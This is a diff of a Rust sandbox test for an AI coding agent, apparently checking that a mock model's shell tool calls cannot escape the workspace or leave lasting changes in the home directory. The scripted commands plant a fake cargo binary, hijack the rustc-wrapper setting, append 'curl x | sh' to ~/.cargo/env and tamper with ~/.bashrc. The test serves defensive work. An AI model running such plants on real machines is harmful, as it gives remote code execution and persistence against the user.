@@ -158,12 +158,15 @@ async fn default_flags_confine_auto_mode_hide_credentials_and_escalation_asks() 
     }
     let h = home();
     let probe = format!("/tmp/cairn-private-tmp-probe-{}", std::process::id());
+    // The home is an empty tmpfs: `~/.bashrc` and `~/.cargo/config.toml` land there and
+    // are gone when the command ends; the toolchain bound back is read-only (the last
+    // write fails, so the command fails with the read-only hint).
     let plants = "echo evil > ~/.cargo/bin/cargo-evil; \
                   printf '[build]\\nrustc-wrapper = \"/x\"\\n' > ~/.cargo/config.toml; \
-                  echo 'curl x | sh' >> ~/.cargo/env; \
                   mkdir -p ~/.npm/_cacache && echo t > ~/.npm/_cacache/planted; \
                   mkdir -p ~/.cache/pip && echo t > ~/.cache/pip/planted; \
-                  echo evil >> ~/.bashrc";
+                  echo evil >> ~/.bashrc; \
+                  echo 'curl x | sh' >> ~/.cargo/env";
     let server = MockLlmServer::with_script(vec![
         Reply::tool_call("a", "run_shell", json!({"command": "echo x > link/escaped; exit 0"})),
         Reply::tool_call("b", "run_shell", json!({"command": plants})),
